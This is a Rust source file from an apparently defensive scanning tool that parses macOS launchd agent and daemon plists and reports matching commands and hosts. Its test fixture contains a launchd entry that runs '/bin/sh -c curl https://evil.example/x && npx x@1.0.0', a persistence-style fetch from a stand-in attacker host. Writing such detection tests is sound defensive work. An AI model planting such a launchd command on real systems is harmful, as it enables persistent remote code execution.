//! Agents and daemons of launchd, which macOS starts.
//!
//! ```text
//! ~/Library/LaunchAgents/NAME.plist          with a session of that account
//! /Library/LaunchAgents/NAME.plist           with each session
//! /Library/LaunchDaemons/NAME.plist          with the machine, as root or as `UserName`; also below /System
//! ```
//!
//! A property list, as XML or binary: `Program` and `ProgramArguments` are what starts, `EnvironmentVariables` what it is given. A hit says
//! that they hold a text that an indicator asks for; it does not say that it was run, and one with `Disabled` starts nothing. Documented
//! in launchd.plist(5).

use super::plist;
use crate::{
    interest::Interest,
    shell,
    surface::{
        Claim, CommandSource, Flaw, Meta, Opened, Shows, Sink, Surface,
        hook::{Hooks, When},
        node::json::Node,
    },
};

const FILE: usize = 1 << 20;

/// `LaunchAgents/*.plist`, `LaunchDaemons/*.plist`.
pub struct Launchd;

static META: Meta = Meta {
    id: "host/launchd",
    title: "agents and daemons of launchd",
    proves: "an agent or a daemon that starts that text stands there; not that it ran",
};

impl Surface for Launchd {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn shows(&self) -> &'static [Shows] {
        &[Shows::Packages, Shows::Images, Shows::Network, Shows::Strings, Shows::Processes]
    }

    fn claims(&self, _: &Interest) -> Vec<Claim> {
        ["LaunchAgents", "LaunchDaemons"].map(|folder| Claim::suffix(".plist").in_tail(folder)).into()
    }

    fn commands(&self) -> CommandSource {
        CommandSource::Configured
    }

    fn inspect(&self, file: &mut Opened<'_, '_>, out: &mut Sink<'_>) -> Result<(), Flaw> {
        let interest = file.interest;
        let bytes = file.all(FILE)?.to_vec();
        let list = plist::read(&bytes)?;
        let mut hooks = Hooks::new(file, interest, out)?;
        let mut words: Vec<&str> =
            list.get("ProgramArguments").map(Node::items).unwrap_or_default().iter().filter_map(Node::text).collect();
        if let Some(program) = list.text_of("Program").filter(|program| words.first() != Some(program)) {
            words.insert(0, program);
        }
        let when = if list.flag("Disabled") { When::ByHand } else { When::ByItself };
        let line = line_of(&bytes, b"ProgramArguments").or_else(|| line_of(&bytes, b"Program"));
        if !words.is_empty() {
            hooks.command(&shell::quoted(&words), "ProgramArguments", line, when, list.text_of("WorkingDirectory"));
        }
        for (_, value) in list.get("EnvironmentVariables").map(Node::fields).unwrap_or_default() {
            if let Some(text) = value.text() {
                hooks.address(text, "EnvironmentVariables", line.or(Some(1)), when);
            }
        }
        hooks.finish()
    }
}

/// Of a key, in a list that is text.
fn line_of(bytes: &[u8], key: &[u8]) -> Option<u32> {
    let at = memchr::memmem::find(bytes, &[b"<key>", key].concat())?;
    let before = memchr::memchr_iter(b'\n', bytes.get(..at)?).count();
    u32::try_from(before).ok()?.checked_add(1)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        fact::{Fact, TraceKind},
        surface::python::trial::tried,
    };

    fn said(text: &str) -> (Vec<String>, bool) {
        let interest = Interest::with_traces(&[(TraceKind::Host, "evil.example"), (TraceKind::Text, "PAYLOAD")]);
        let tried = tried(&Launchd, "Users/bo/Library/LaunchAgents/x.plist", text.as_bytes(), &interest);
        let words = |s: &crate::fact::Seen| match &s.fact {
            Fact::Trace(t) => format!("{} {:?}:{}", t.value, t.held, s.origin.line.unwrap_or(0)),
            Fact::Command(c) => format!("{} {}", c.tool, c.wanted[0].name),
            other => format!("{other:?}"),
        };
        (tried.seen.iter().map(words).collect(), tried.flaw.is_some())
    }

    #[test]
    fn programs_and_their_words_count() {
        let list = |inner: &str| {
            format!(
                "<?xml version=\"1.0\"?>\n<!DOCTYPE plist PUBLIC \"-//x//EN\" \"http://evil.example\">\n<plist version=\"1.0\">\n<dict>\n{inner}\n</dict>\n</plist>\n"
            )
        };
        let shell = "<key>Label</key><string>PAYLOAD</string>\n<key>ProgramArguments</key>\n<array><string>/bin/sh</string><string>-c</string>\
                     <string>curl https://evil.example/x &amp;&amp; npx x@1.0.0</string></array>";
        assert_eq!(said(&list(shell)), (vec!["evil.example Starts:6".into(), "npx x".into()], false));
        let off = "<key>Disabled</key><true/><key>Program</key><string>/x/PAYLOAD</string>";
        assert_eq!(said(&list(off)), (vec!["PAYLOAD Named:5".into()], false));
        for inner in
            ["<key>Label</key><string>PAYLOAD</string>", "<!-- <key>Program</key><string>PAYLOAD</string> -->", ""]
        {
            assert_eq!(said(&list(inner)), (vec![], false), "{inner}");
        }
        assert!(said("<plist><dict>").1 && said("").1 && said("{ Program = PAYLOAD; }").1);
    }
}
